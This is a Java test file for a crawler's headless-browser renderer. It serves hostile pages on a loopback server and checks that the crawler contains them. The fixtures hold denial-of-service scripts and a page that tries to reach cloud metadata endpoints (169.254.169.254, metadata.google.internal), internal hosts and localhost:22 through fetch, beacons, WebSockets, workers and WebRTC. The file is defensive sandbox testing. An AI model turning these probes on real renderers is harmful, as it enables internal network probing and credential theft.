package org.hulian.crawler.render;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.SocketTimeoutException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;
import org.hulian.crawler.AddressOutcome.Kind;
import org.hulian.crawler.CrawlReport;
import org.hulian.crawler.CrawlReport.Status;
import org.hulian.crawler.Crawling;
import org.hulian.crawler.LoopbackSite;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Pages that mean harm to whoever runs their scripts. */
class HostilePagesTest {
  /**
   * Chromium connects a datagram socket to a public resolver to learn whether the system has a
   * route for IPv6, and closes it: connecting one sends nothing (POSIX, connect()).
   */
  private static final Set<String> LEARNS_OF_IPV6 =
      Set.of("udp6: 60480120000060480000000088880000:01BB");

  private final Crawling crawling = new Crawling();
  @TempDir Path folder;

  private CrawlReport crawl(LoopbackSite server) {
    return crawling.run(
        RenderedCrawlTest.rendered(Crawling.site(server)),
        Crawling.settings(folder).withBrowser(BrowserHere.settings()));
  }

  /** A hostile page between good ones, which are found all the same. */
  private CrawlReport amongOthers(String hostile) throws Exception {
    try (LoopbackSite server = new LoopbackSite()) {
      server.html("/", "<a href=/i/1></a><a href=/i/2></a><a href=/i/3></a>");
      server.html("/i/1", "<p>item=before").html("/i/2", hostile).html("/i/3", "<p>item=after");
      CrawlReport report = crawl(server);
      assertThat(crawling.items()).contains("before", "after");
      return report;
    }
  }

  @Test
  void scriptsThatNeverEndLoseTheirPageAndNoOther() throws Exception {
    CrawlReport report = amongOthers("<script>while (true) {}</script>");
    assertThat(report.status()).isEqualTo(Status.COMPLETED);
    assertThat(crawling.of(Kind.FAILED))
        .singleElement()
        .asString()
        .startsWith("/i/2 it cannot be rendered: its scripts did not end within");
  }

  @Test
  void scriptsThatTakeAllMemoryLoseTheirPageAndNoOther() throws Exception {
    amongOthers(
        "<script>window.all = []; for (;;) { const a = new Uint8Array(64 << 20); a.fill(1);"
            + " window.all.push(a); }</script>");
    assertThat(crawling.of(Kind.FAILED))
        .singleElement()
        .asString()
        .startsWith("/i/2 it cannot be rendered: ");
  }

  @Test
  void alertsAndNewWindowsWithoutEndLoseTheirPageAndNoOther() throws Exception {
    amongOthers(
        "<script>setInterval(() => { for (let i = 0; i < 100; i++) { window.open('/i/1?' + i); } }, 1);"
            + " for (;;) { alert('x'); confirm('y'); prompt('z'); }</script>");
    assertThat(crawling.of(Kind.FAILED)).hasSizeLessThanOrEqualTo(1);
  }

  @Test
  void scriptsThatLeadOnAreFollowedAsRedirectsAndNotWithoutEnd() throws Exception {
    try (LoopbackSite server = new LoopbackSite()) {
      server.html("/", "<script>location = '/i/1'</script>");
      server.html("/i/1", "<body>item=there<a href=/more/0></a></body>");
      for (int i = 0; i < 20; i++) {
        server.html("/more/" + i, "<script>location = '/more/" + (i + 1) + "'</script>");
      }
      crawl(server);
      assertThat(crawling.items()).containsExactly("there");
      assertThat(crawling.of(Kind.REDIRECTED)).contains("/ " + server.url("/i/1"));
      assertThat(crawling.of(Kind.FAILED))
          .singleElement()
          .asString()
          .contains("more than 5 redirects");
      assertThat(server.hits("/more/8")).isZero();
    }
  }

  @Test
  void aCookieIsForgottenWithItsPage() throws Exception {
    try (LoopbackSite server = new LoopbackSite()) {
      server.page(
          "/",
          exchange -> {
            exchange.getResponseHeaders().set("Set-Cookie", "id=1; path=/");
            LoopbackSite.send(
                exchange,
                200,
                "text/html",
                LoopbackSite.utf8(
                    "<a href=/i/1></a><script>document.cookie = 'own=2; path=/';"
                        + " localStorage.own = 3; fetch('/api')</script>"));
          });
      server.html(
          "/i/1",
          "<p id=p></p><script>p.textContent = 'item' + '=kept-' + document.cookie.length + '-' +"
              + " (localStorage.own ?? 'none')</script>");
      crawl(server);
      assertThat(crawling.items()).containsExactly("kept-0-none");
      assertThat(server.hits()).noneMatch(hit -> hit.headers().containsKey("Cookie"));
    }
  }

  @Test
  void noWayToTheNetIsOpen() throws Exception {
    assumeTrue(Files.isDirectory(Path.of("/proc/net")), "the system does not tell of its sockets");
    try (LoopbackSite server = new LoopbackSite();
        LoopbackSite other = new LoopbackSite();
        DatagramSocket stun = new DatagramSocket(0, InetAddress.getLoopbackAddress());
        OpenSockets sockets = new OpenSockets()) {
      server.html("/", everyWay("127.0.0.1:" + other.port(), other.port(), stun.getLocalPort()));
      RenderedCrawlTest.answer(
          server,
          "/worker.js",
          "text/javascript",
          "fetch('" + other.url("/from-service-worker") + "')");
      RenderedCrawlTest.answer(
          server,
          "/shared.js",
          "text/javascript",
          "fetch('" + other.url("/from-shared-worker") + "')");

      CrawlReport report = crawl(server);

      assertThat(report.listings()).as(report + " " + crawling.of(Kind.FAILED)).isEqualTo(1);
      assertThat(other.paths()).isEmpty();
      assertThat(server.paths()).doesNotContain("/posted", "/beacon", "/favicon.ico", "/download");
      assertThat(sockets.looks()).isGreaterThan(10);
      assertThat(sockets.seen()).isSubsetOf(LEARNS_OF_IPV6);
      assertThat(received(stun)).isFalse();
    }
  }

  /** All that a page can do to reach somebody: another host, a private one, a STUN server. */
  private static String everyWay(String away, int port, int stun) {
    return """
      <html><head>
      <link rel=preconnect href=http://%1$s><link rel=dns-prefetch href=//example.com>
      <link rel=preload as=script href=http://%1$s/preload.js><link rel=prefetch href=http://%1$s/prefetch>
      <meta http-equiv=Content-Security-Policy-Report-Only content="default-src 'none'; report-uri http://%1$s/csp">
      <script type=speculationrules>{"prerender":[{"source":"list","urls":["http://%1$s/speculated"]}]}</script>
      </head><body><p>item=seen</p>
      <iframe src=http://%1$s/frame></iframe><iframe src=http://169.254.169.254/latest/meta-data></iframe>
      <img src=http://%1$s/image><video src=http://%1$s/film></video><object data=http://%1$s/object></object>
      <a id=ping href=#x ping=http://%1$s/ping></a><form id=form method=post action=http://%1$s/form></form>

      <script>
      const away = 'http://%1$s', quiet = () => {};
      for (const host of ['169.254.169.254', '10.0.0.1', 'localhost:22', 'intranet', 'printer.local',
          '[::1]:%2$d', 'metadata.google.internal', '0x7f000001:%2$d']) {
        fetch('http://' + host + '/secret', {mode: 'no-cors'}).catch(quiet);
      }
      fetch(away + '/fetch', {mode: 'no-cors'}).catch(quiet);
      fetch('/posted', {method: 'POST', body: 'x'}).catch(quiet);
      navigator.sendBeacon(away + '/beacon', 'x'); navigator.sendBeacon('/beacon', 'x');
      for (const make of [
        () => new WebSocket('ws://%1$s/socket'), () => new EventSource(away + '/events'),
        () => navigator.serviceWorker.register('/worker.js'),
        () => new SharedWorker('/shared.js'),
        () => new Worker(URL.createObjectURL(new Blob([
          "fetch('http://%1$s/in-worker',{mode:'no-cors'}); new WebSocket('ws://%1$s/worker-socket');"
          + "try { importScripts('http://%1$s/imported.js') } catch (e) {}"]))),
        () => new WebTransport('https://%1$s/transport'),
        () => { const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:%3$d'}]});
            p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o)); },
        () => { const f = document.createElement('iframe'); document.body.append(f);
            const p = new f.contentWindow.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:%3$d'}]});
            p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o)); },
        () => window.open(away + '/window'), () => document.getElementById('ping').click(),
        () => { const a = document.createElement('a'); a.download = 'x'; a['hr' + 'ef'] = '/download'; a.click(); },
        () => navigator.geolocation.getCurrentPosition(quiet),
        () => { const f = document.getElementById('form'); f.target = '_blank'; f.submit(); },
      ]) { try { const made = make(); if (made && made.catch) made.catch(quiet); } catch (e) {} }
      </script></body></html>
      """
        .formatted(away, port, stun);
  }

  private static boolean received(DatagramSocket socket) throws java.io.IOException {
    socket.setSoTimeout(300);
    try {
      socket.receive(new java.net.DatagramPacket(new byte[1500], 1500));
      return true;
    } catch (SocketTimeoutException e) {
      return false;
    }
  }

  @Test
  void aRunLeavesNoBrowserBehind() throws Exception {
    amongOthers("<p>item=between");
    List<ProcessHandle> left =
        ProcessHandle.current()
            .descendants()
            .filter(one -> one.info().command().orElse("").contains("chrom"))
            .toList();
    assertThat(left).isEmpty();
  }
}
